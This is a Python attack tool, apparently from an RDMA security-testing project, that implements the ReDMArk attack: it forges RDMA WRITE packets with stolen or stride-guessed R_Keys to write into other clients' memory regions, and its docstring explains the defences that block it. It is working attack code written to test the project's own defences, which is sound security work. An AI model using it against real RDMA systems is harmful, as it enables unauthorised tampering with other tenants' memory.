"""RDMA WRITE with a guessed or stolen R_Key (ReDMArk, USENIX Security 2021).

ReDMArk's attacker is a client of the victim's service with a connection of its own: it learns one R_Key
(its own region's, or a sniffed one) and, R_Keys being handed out with a fixed stride, writes other
clients' regions by guessing theirs. This tool sends RDMA WRITE ONLYs on a connection to ``--dst-gid``
(its QPN and next PSN given, or sniffed off the attacker's own traffic with ``--sniff``), the i-th with
R_Key ``--rkey`` + i * ``--rkey-stride`` and address ``--va`` + i * ``--va-stride`` (stride 0 and count 1:
a stolen key). All carry the same PSN: a receiver that refuses a write does not take its PSN.

What stops it in our design (docs/security.md): R_Keys and addresses are random (nothing to guess from a
stride); a region takes writes only from QPs of its own protection domain; a region registered for
authenticated access takes only writes whose MAC covers them (modes 1-3), which a forger cannot compute.
With security off (mode 0, access ``any``, one PD) a stolen R_Key is all it takes: the write lands.
"""

from __future__ import annotations

import argparse

from ibsec.builder import Builder, gid_bytes

from .common import RawSocket, blast, checked, gid_text, int0, parser, report, run
from .forge import complete, connection_options
from .forging import forged

MASK32 = (1 << 32) - 1


def write(builder: Builder, args: argparse.Namespace, i: int) -> bytes:
    """Guess ``i``: one RDMA WRITE ONLY of ``args.data`` with the i-th R_Key and address."""
    rkey = (args.rkey + i * args.rkey_stride) & MASK32
    va = args.va + i * args.va_stride
    data = args.data.encode()
    return forged(builder, args.mode, args.dst_gid, "RC_RDMA_WRITE_ONLY", args.pkey, args.qpn, args.psn,
                  data, ackreq=True, reth=(va, rkey, len(data)))


def main(argv: list[str] | None = None) -> int:
    p = parser(__doc__.splitlines()[0])
    p.set_defaults(count=1)
    p.add_argument("--rkey", type=int0, required=True, help="the stolen R_Key, or the first guess")
    p.add_argument("--rkey-stride", type=int0, default=0, help="added to the R_Key per guess")
    p.add_argument("--va", type=int0, required=True, help="the address of the first write")
    p.add_argument("--va-stride", type=int0, default=0, help="added to the address per guess")
    connection_options(p)
    p.add_argument("--data", default="GUESSED", help="payload text")
    args = checked(p.parse_args(argv))
    sock = RawSocket(args.iface)
    complete(args, sock, "rkey_guess", ("pkey", "qpn", "psn"))
    builder = Builder(sock.mac, gid_bytes(gid_text(args.src_gid or sock.gid)))
    summary = blast(sock, lambda i: write(builder, args, i), args)
    report({"attack": "rkey_guess", "qpn": args.qpn, "psn": args.psn, "mode": args.mode,
            "first_rkey": args.rkey, "rkey_stride": args.rkey_stride, **summary})
    sock.close()
    return 0


if __name__ == "__main__":
    run(main)
